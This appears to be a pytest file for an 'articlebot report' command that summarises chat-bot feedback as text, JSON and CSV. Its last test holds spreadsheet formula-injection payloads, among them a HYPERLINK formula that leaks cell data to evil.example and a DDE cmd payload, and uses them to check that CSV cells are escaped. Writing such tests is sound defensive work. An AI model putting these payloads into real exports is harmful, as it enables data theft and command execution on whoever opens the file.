"""`articlebot report`: what an operator reads on Monday, from the feedback database
the chat bots write (fast tier: no model)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
from pathlib import Path

import pytest

from bot.answer.records import NOT_FOUND, Answer, Passage
from bot.chat.feedback import FeedbackStore
from bot.cli import main
from index.records import Chunk
from index.sources.articles import make_article

BODY = "The International Space Station was launched in 1998 with Russia and Canada."


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("ARTICLEBOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("ARTICLEBOT_CONFIG", raising=False)
    return tmp_path / "data"


def answered(question: str) -> Answer:
    article = make_article(
        article_id="iss", title="Russia leaves the ISS", body=BODY, source="iss.txt"
    )
    chunk = Chunk("iss-0", "iss", 0, len(article.text), article.text)
    return Answer(question, article.text, False, [Passage(1, chunk, article, 0.8)], [], "v1", 1.2)


def abstained(question: str) -> Answer:
    return Answer(question, NOT_FOUND, True, [], [], "v1", 0.3)


def recorded(data_dir: Path) -> Path:
    """Nine questions: four unanswered (three the same), two answers voted on, and one
    question from a month ago."""
    data_dir.mkdir(parents=True, exist_ok=True)
    store = FeedbackStore(data_dir / "feedback.sqlite3")
    for question in (
        "Who will replace the ISS?",
        "who will replace the  ISS",
        "WHO WILL REPLACE THE ISS?",
    ):
        store.record_answer(abstained(question), platform="slack", user_id="U1")
    store.record_answer(
        abstained("What is the weather in Moscow?"), platform="discord", user_id="U2"
    )
    liked = store.record_answer(
        answered("When was the ISS launched?"), platform="slack", user_id="U1"
    )
    disliked = store.record_answer(
        answered("Which countries built it?"), platform="discord", user_id="U3"
    )
    store.vote(liked, user_id="U1", helpful=True)
    store.vote(disliked, user_id="U1", helpful=False)
    store.vote(disliked, user_id="U2", helpful=False)
    old = store.record_answer(answered("An old question?"), platform="slack", user_id="U9")
    store.vote(old, user_id="U9", helpful=False)
    store.close()
    path = data_dir / "feedback.sqlite3"
    with sqlite3.connect(path) as db:  # asked, and voted down, a month ago
        month_ago = time.time() - 30 * 86400
        db.execute("UPDATE answers SET created_at = ? WHERE id = ?", (month_ago, old))
        db.execute("UPDATE votes SET created_at = ? WHERE answer_id = ?", (month_ago, old))
    return path


def report(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["report", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_the_report_counts_questions_gaps_and_votes(
    capsys: pytest.CaptureFixture[str], data_dir: Path
) -> None:
    recorded(data_dir)
    code, out, _ = report(capsys, "--json")
    assert code == 0
    found = json.loads(out)
    assert found["questions"] == 6 and found["not_answered"] == 4  # the old one is past 7 days
    assert found["abstention_rate"] == pytest.approx(4 / 6)
    assert found["unanswered"][0] == ["WHO WILL REPLACE THE ISS?", 3]  # one question, 3 ways
    assert found["unanswered"][1] == ["What is the weather in Moscow?", 1]
    assert found["helpful"] == 1 and found["not_helpful"] == 2
    [down] = found["voted_down"]
    assert down["question"] == "Which countries built it?" and down["votes"] == 2
    assert down["answer"].startswith("The International Space Station was launched in 1998")
    assert down["sources"] == ["Russia leaves the ISS <iss.txt>"]

    everything = json.loads(report(capsys, "--since", "all", "--json")[1])
    assert everything["questions"] == 7 and everything["since"] is None
    assert everything["helpful"] == 1 and everything["not_helpful"] == 3  # the old vote too
    assert [d["question"] for d in everything["voted_down"]] == [
        "Which countries built it?",
        "An old question?",
    ]
    assert json.loads(report(capsys, "--since", "1m", "--json")[1])["questions"] == 6


def test_the_report_as_text_and_csv(capsys: pytest.CaptureFixture[str], data_dir: Path) -> None:
    recorded(data_dir)
    code, out, _ = report(capsys)
    assert code == 0
    assert "Questions asked: 6; not answered: 4 (67%)" in out
    assert "Votes: 1 helpful, 2 not helpful" in out
    assert "   3  WHO WILL REPLACE THE ISS?" in out
    assert "Q: Which countries built it?  (2 not helpful)" in out and "<iss.txt>" in out

    rows = list(csv.DictReader(io.StringIO(report(capsys, "--csv")[1])))
    figures = {r["kind"]: int(r["count"]) for r in rows if not r["question"]}
    assert figures == {"questions": 6, "not_answered": 4, "helpful": 1, "not_helpful": 2}
    assert {
        "kind": "unanswered",
        "question": "WHO WILL REPLACE THE ISS?",
        "count": "3",
        "answer": "",
        "sources": "",
    } in rows
    down = next(r for r in rows if r["kind"] == "voted_down")
    assert down["question"] == "Which countries built it?" and down["count"] == "2"


@pytest.mark.parametrize(
    ("args", "message"),
    [(["--since", "7 days"], "give a number and m, h, d or w"), (["--json", "--csv"], "not both")],
)
def test_bad_options_get_a_short_message(
    capsys: pytest.CaptureFixture[str], data_dir: Path, args: list[str], message: str
) -> None:
    recorded(data_dir)
    code, out, err = report(capsys, *args)
    assert code == 2 and message in err and "Traceback" not in err + out


def test_no_database_yet(capsys: pytest.CaptureFixture[str], data_dir: Path) -> None:
    code, out, _ = report(capsys)
    assert code == 0 and "No questions recorded yet" in out
    assert not (data_dir / "feedback.sqlite3").exists()  # reporting creates nothing


def test_an_older_database_gains_where_answers_were_asked(data_dir: Path) -> None:
    """A database made before the channel and thread columns keeps its rows and votes,
    and records where new answers were asked."""
    data_dir.mkdir(parents=True)
    path = data_dir / "feedback.sqlite3"
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE answers (id TEXT PRIMARY KEY, question TEXT NOT NULL, answer TEXT "
            "NOT NULL, abstained INTEGER NOT NULL, sources TEXT NOT NULL, platform TEXT NOT "
            "NULL, user_id TEXT NOT NULL, created_at REAL NOT NULL);"
            "INSERT INTO answers VALUES ('a1', 'Old?', 'Old.', 0, '[]', 'slack', 'U1', 1.0);"
        )
    store = FeedbackStore(path)
    assert store.vote("a1", user_id="U2", helpful=True)
    store.record_answer(
        answered("New?"), platform="discord", user_id="9", channel="920", thread="930"
    )
    store.close()
    with sqlite3.connect(path) as db:
        rows = db.execute("SELECT question, channel, thread FROM answers ORDER BY rowid").fetchall()
    assert rows == [("Old?", "", ""), ("New?", "920", "930")]


def test_the_report_of_one_collection(
    capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path
) -> None:
    """--collection counts only the questions, gaps and votes of that collection."""
    path = recorded(data_dir)  # all in the default collection
    store = FeedbackStore(path)
    for question in ("Is the comet visible?", "is the comet visible"):
        store.record_answer(abstained(question), platform="slack", user_id="U4", collection="sky")
    disliked = store.record_answer(
        answered("What is the comet called?"), platform="slack", user_id="U4", collection="sky"
    )
    store.vote(disliked, user_id="U5", helpful=False)
    store.close()
    config = tmp_path / "settings.toml"
    config.write_text('[collections.sky]\nsources = ["sky"]\n')
    code = main(["--config", str(config), "report", "--collection", "sky", "--json"])
    sky = json.loads(capsys.readouterr().out)
    assert code == 0 and sky["collection"] == "sky"
    assert sky["questions"] == 3 and sky["not_answered"] == 2
    assert sky["unanswered"] == [["is the comet visible", 2]]  # in its latest wording
    assert sky["helpful"] == 0 and sky["not_helpful"] == 1
    assert [d["question"] for d in sky["voted_down"]] == ["What is the comet called?"]
    main(["--config", str(config), "report", "--collection", "default", "--json"])
    default = json.loads(capsys.readouterr().out)
    assert default["questions"] == 6 and default["not_helpful"] == 2
    main(["--config", str(config), "report", "--json"])
    assert json.loads(capsys.readouterr().out)["questions"] == 9  # every collection


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_no_csv_cell_starts_a_formula(capsys: pytest.CaptureFixture[str], data_dir: Path) -> None:
    """Questions come from any chat user and answers and titles from article text: in
    every column, a cell that would start a spreadsheet formula is shown as text."""
    data_dir.mkdir(parents=True, exist_ok=True)
    store = FeedbackStore(data_dir / "feedback.sqlite3")
    for question in INJECTIONS:
        store.record_answer(abstained(question), platform="slack", user_id="U1")
    article = make_article(article_id="x", title="=1+2", body=BODY, source="x.txt")
    chunk = Chunk("x-0", "x", 0, len(article.text), article.text)
    answer = Answer("@evil", "-9 " + BODY, False, [Passage(1, chunk, article, 0.8)], [], "v1", 1)
    store.vote(
        store.record_answer(answer, platform="slack", user_id="U1"), user_id="U2", helpful=False
    )
    store.close()
    rows = list(csv.reader(io.StringIO(report(capsys, "--csv")[1], newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {"'" + q for q in INJECTIONS[:4]} <= set(cells)
    assert len(rows) == 1 + 4 + 5 + 1  # header, figures, five questions, one vote: no row
    assert all(len(row) == 5 for row in rows)  # was split by a carriage return
    down = next(r for r in rows if r[0] == "voted_down")
    assert down[1:] == ["'@evil", "1", "'-9 " + BODY, "'=1+2 <x.txt>"]
